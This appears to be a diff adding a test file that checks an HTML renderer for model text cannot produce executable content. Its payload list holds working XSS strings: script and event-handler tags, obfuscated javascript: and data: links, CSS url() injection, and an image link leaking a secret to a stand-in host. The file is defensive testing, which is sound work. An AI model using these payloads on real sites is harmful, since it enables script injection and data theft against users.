@@ -1,0 +1,192 @@
+"""render.py: model text comes out as HTML that can only show things, never run them.
+
+The oracle: parse the produced HTML with the standard library's parser and check
+that every tag and attribute is on a short allow-list and every href is http(s)/mailto.
+"""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from nora_widgets.render import (
+    escape,
+    is_safe_link,
+    markdown_to_html,
+    messages_table_html,
+    role_chip_html,
+)
+
+# what markdown-it (commonmark + tables + strikethrough) may emit
+ALLOWED_TAGS = {
+    "p", "br", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "s",
+    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
+}
+ALLOWED_ATTRS = {"href", "title", "target", "rel", "start", "style", "class"}
+
+
+class TagAudit(HTMLParser):
+    """Collects every tag and attribute a browser would see in the HTML."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attrs: list[tuple[str, str | None]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attrs.extend(attrs)
+
+    handle_startendtag = handle_starttag
+
+
+def audit(html_text: str) -> TagAudit:
+    parser = TagAudit()
+    parser.feed(html_text)
+    parser.close()
+    return parser
+
+
+def assert_inert(html_text: str) -> None:
+    found = audit(html_text)
+    assert set(found.tags) <= ALLOWED_TAGS, found.tags
+    for name, value in found.attrs:
+        assert name in ALLOWED_ATTRS, (name, value)
+        if name == "href":
+            assert is_safe_link(value), value
+        if name == "style":  # only the fixed `style` attributes this module writes for tables
+            assert "url(" not in value and "expression" not in value.lower()
+
+
+PAYLOADS = [
+    "<script>window.__nora_pwned = 1</script>",
+    "<img src=x onerror=\"window.__nora_pwned=1\">",
+    "<svg onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "[click me](javascript:alert(1))",
+    "[click me](JaVaScRiPt:alert(1))",
+    "[click me](&#106;avascript:alert(1))",
+    "[click me](java%0Ascript:alert(1))",
+    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click me](vbscript:msgbox(1))",
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "![pixel](https://tracker.example/leak?q=secret)",
+    "<a href=\"javascript:alert(1)\">link</a>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "<!-- comment --><b onmouseover=alert(1)>bold</b>",
+    "[x](https://ok.example/\" onmouseover=\"alert(1))",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payloads_come_out_inert(payload):
+    out = markdown_to_html(payload)
+    assert_inert(out)
+    assert "<script" not in out and "<img" not in out and "<iframe" not in out and "<svg" not in out
+
+
+def test_raw_html_is_shown_as_text():
+    out = markdown_to_html("<b>bold?</b> <script>x()</script>")
+    assert "&lt;b&gt;bold?&lt;/b&gt;" in out
+    assert "&lt;script&gt;x()&lt;/script&gt;" in out
+
+
+def test_refused_links_stay_readable_as_text():
+    assert markdown_to_html("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>\n"
+
+
+def test_images_become_links_not_requests():
+    out = markdown_to_html("![pixel](https://tracker.example/p.png)")
+    assert "<img" not in out
+    assert 'href="https://tracker.example/p.png"' in out
+
+
+def test_markdown_still_works():
+    out = markdown_to_html("**bold** and *it*\n\n- one\n- two\n\n`code` [site](https://example.org)")
+    assert "<strong>bold</strong>" in out and "<em>it</em>" in out
+    assert out.count("<li>") == 2 and "<code>code</code>" in out
+    assert '<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">site</a>' in out
+
+
+def test_tables_render():
+    out = markdown_to_html("| a | b |\n|---|---|\n| 1 | 2 |")
+    assert "<table>" in out and "<td>2</td>" in out
+
+
+@pytest.mark.parametrize(
+    "url, ok",
+    [
+        ("https://example.org", True),
+        ("http://example.org/x?y=1", True),
+        ("mailto:shop@example.org", True),
+        ("javascript:alert(1)", False),
+        (" JAVASCRIPT:alert(1)", False),
+        ("data:text/html,hi", False),
+        ("file:///etc/passwd", False),
+        ("/relative/path", False),
+        ("", False),
+    ],
+)
+def test_is_safe_link(url, ok):
+    assert is_safe_link(url) is ok
+
+
+def test_non_string_input():
+    assert markdown_to_html(None) == ""
+    assert markdown_to_html(42) == "<p>42</p>\n"
+
+
+def test_escape_quotes_too():
+    assert escape('<b a="1">\'') == "&lt;b a=&quot;1&quot;&gt;&#x27;"
+
+
+def test_role_chip_escapes_an_odd_role():
+    chip = role_chip_html('<img src=x onerror="alert(1)">')
+    assert_inert(chip.replace("<span", "<p").replace("</span>", "</p>"))
+    assert "&lt;img" in chip
+    assert 'class="nora-chip nora-chip-user"' in role_chip_html("user")
+
+
+def test_messages_table_rows_counts_highlight_and_dim():
+    messages = [
+        {"role": "system", "content": "Be brief."},
+        {"role": "user", "content": "<script>alert(1)</script>"},
+        {"role": "assistant", "content": "Hello & welcome"},
+    ]
+    out = messages_table_html(messages, [3, 7, 1234], highlight=[1, 2], dimmed=[0], caption="sent <now>")
+    found = audit(out)
+    assert found.tags.count("tr") == 4  # header + one row per message
+    assert "script" not in found.tags
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
+    assert "Hello &amp; welcome" in out
+    assert "1,234" in out
+    assert out.count("nora-row-new") == 2 and out.count("nora-row-dropped") == 1
+    assert "sent &lt;now&gt;" in out
+
+
+def test_messages_table_cuts_long_content_and_says_so():
+    out = messages_table_html([{"role": "user", "content": "x" * 5000}], max_chars=100)
+    assert "x" * 100 + "\u2026 (5,000 characters)" in out
+    assert "x" * 101 not in out
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("<>\"'=&;:/()[]!`*_ \n#-|ajvscriptonerrorhefimgdt%0123")), max_size=80))
+def test_any_text_renders_inert(text):
+    assert_inert(markdown_to_html(text))
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.fixed_dictionaries({"role": st.sampled_from(["system", "user", "assistant"]),
+                                       "content": st.text(max_size=40)}), max_size=5))
+def test_any_messages_table_is_inert(messages):
+    out = messages_table_html(messages, [len(m["content"]) for m in messages], highlight=[0])
+    found = audit(out)
+    assert set(found.tags) <= {"table", "caption", "thead", "tbody", "tr", "th", "td", "span"}
+    assert found.tags.count("tr") == len(messages) + 1
